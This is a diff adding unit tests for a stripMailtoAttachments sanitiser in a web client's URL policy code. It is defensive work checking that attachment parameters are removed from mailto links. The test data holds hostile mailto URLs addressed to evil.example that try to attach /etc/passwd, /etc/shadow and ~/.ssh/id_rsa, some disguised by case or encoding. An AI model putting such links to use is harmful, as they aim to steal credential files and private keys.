@@ -1,6 +1,10 @@
 // URL classification as the browser parses it (SECURITY.md 43, 46; payload class 2).
 import { describe, expect, it } from 'vitest';
-import { classifyUrl, parseSrcset } from '../../../client/reader/url-policy.ts';
+import {
+  classifyUrl,
+  parseSrcset,
+  stripMailtoAttachments,
+} from '../../../client/reader/url-policy.ts';
 
 describe('classifyUrl', () => {
   it.each([
@@ -54,5 +58,31 @@ describe('parseSrcset', () => {
   it('copes with empty and comma-only values', () => {
     expect(parseSrcset('')).toEqual([]);
     expect(parseSrcset(' , ,, ')).toEqual([]);
+  });
+});
+
+describe('stripMailtoAttachments', () => {
+  it.each([
+    ['mailto:x@evil.example?attach=/etc/passwd&subject=hi', 'mailto:x@evil.example?subject=hi'],
+    ['mailto:a@evil.example?Attachment=%2Fetc%2Fshadow', 'mailto:a@evil.example'],
+    [
+      'mailto:a@evil.example?%61ttach=x&ATTACH=y&cc=b@evil.example',
+      'mailto:a@evil.example?cc=b@evil.example',
+    ],
+    [
+      'mailto:?to=a@evil.example&attach=~/.ssh/id_rsa&body=a+b%20c',
+      'mailto:?to=a@evil.example&body=a+b%20c',
+    ],
+  ])('drops attach fields from %j', (url, expected) => {
+    expect(stripMailtoAttachments(url)).toBe(expected);
+  });
+
+  it.each([
+    'mailto:a@example.com',
+    'mailto:a@example.com?subject=attach%20this&body=attach=me',
+    'mailto:a@example.com?attachments=1',
+    'https://example.com/?attach=1',
+  ])('leaves %j as it is', (url) => {
+    expect(stripMailtoAttachments(url)).toBe(url);
   });
 });
